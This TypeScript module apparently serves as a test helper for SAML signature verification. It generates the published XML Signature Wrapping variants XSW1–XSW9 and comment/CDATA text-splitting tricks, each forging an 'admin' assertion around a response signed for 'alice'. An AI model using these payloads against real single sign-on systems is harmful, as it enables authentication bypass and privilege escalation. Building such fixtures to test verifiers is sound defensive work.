/**
 * What attackers make of a signed response: the published ways of wrapping it, so that one part is verified and another believed, and of cutting
 * its texts in two. Each keeps the signature's own bytes; in each a careless reader finds `admin` where `alice` was signed.
 */
export interface Attack {
  readonly name: string;
  readonly xml: string;
}

interface Parts {
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  /** Another assertion, in the attacker's words, with an id of its own and no signature. */
  readonly evil: string;
  /** The document with something else in place of its assertion. */
  readonly put: (inside: string) => string;
}

export function only(pattern: RegExp, text: string): string {
  const found = pattern.exec(text)?.[0];
  if (found === undefined) throw new Error(`${pattern} is not in the document`);
  return found;
}

/** A document whose Assertion is signed, in parts. */
export function partsOf(xml: string): Parts {
  const assertion = only(/<saml:Assertion.*<\/saml:Assertion>/s, xml);
  const signature = only(/<Signature .*<\/Signature>/s, assertion);
  const bare = assertion.replace(signature, '');
  return {
    assertion,
    signature,
    bare,
    evil: bare.replace('>alice<', '>admin<').replace(/ ID="[^"]*"/, ' ID="_evil"'),
    put: (inside) => xml.replace(assertion, () => inside),
  };
}

/** An element with something more, after its Issuer. */
export function withSignature(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
}

/** Signature wrapping (Somorovsky et al., "On Breaking SAML", USENIX Security 2012) 3 to 9, of a document whose Assertion is signed. */
export function assertionWrappings(xml: string): readonly Attack[] {
  const { assertion, signature, bare, evil, put } = partsOf(xml);
  const inSignature = (inside: string): string =>
    signature.replace('</Signature>', () => `${inside}</Signature>`);
  const around = (outer: string, inside: string): string =>
    outer.replace('</saml:Assertion>', () => `${inside}</saml:Assertion>`);
  const id = only(/ ID="[^"]*"/, bare);
  return [
    { name: 'XSW3: another assertion before the signed one', xml: put(evil + assertion) },
    { name: 'XSW3: another assertion behind the signed one', xml: put(assertion + evil) },
    { name: 'XSW4: another assertion around the signed one', xml: put(around(evil, assertion)) },
    { name: 'XSW4: another assertion in the signed one', xml: put(around(assertion, evil)) },
    {
      name: 'XSW5: the signature in another assertion, the signed one behind',
      xml: put(withSignature(evil, signature) + bare),
    },
    {
      name: 'XSW6: the signed one in the signature, that in another',
      xml: put(withSignature(evil, inSignature(bare))),
    },
    {
      name: 'XSW7: another assertion in Extensions',
      xml: put(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
    },
    {
      name: 'XSW8: the signed one in an Object of the signature',
      xml: put(withSignature(evil, inSignature(`<Object>${bare}</Object>`))),
    },
    {
      name: 'XSW9: another assertion with the id of the signed one',
      xml: put(evil.replace(/ ID="[^"]*"/, id) + assertion),
    },
  ];
}

/** Signature wrapping 1 and 2, of a document whose Response is signed. */
export function responseWrappings(xml: string): readonly Attack[] {
  const signature = only(/<Signature .*<\/Signature>/s, xml);
  const bare = xml.replace(signature, '');
  const evil = bare
    .replace('>alice<', '>admin<')
    .replace(/ ID="[^"]*"/, ' ID="_evil"')
    .replace(/(<saml:Assertion[^>]*) ID="[^"]*"/, '$1 ID="_evil2"');
  const inside = signature.replace('</Signature>', () => `<Object>${bare}</Object></Signature>`);
  return [
    { name: 'XSW1: the signed response in the signature of another', xml: withSignature(evil, inside) },
    {
      name: 'XSW2: the signed response beside its signature in another',
      xml: withSignature(evil, bare + signature),
    },
  ];
}

/** Markup that canonical forms leave out or readers join differently, at a place in a text. */
export const textTricks: Readonly<Record<string, string>> = {
  'a comment': '<!---->',
  'a comment with a text': '<!-- admin -->',
  'a processing instruction': '<?x y?>',
  'a CDATA section': '<![CDATA[]]>',
};
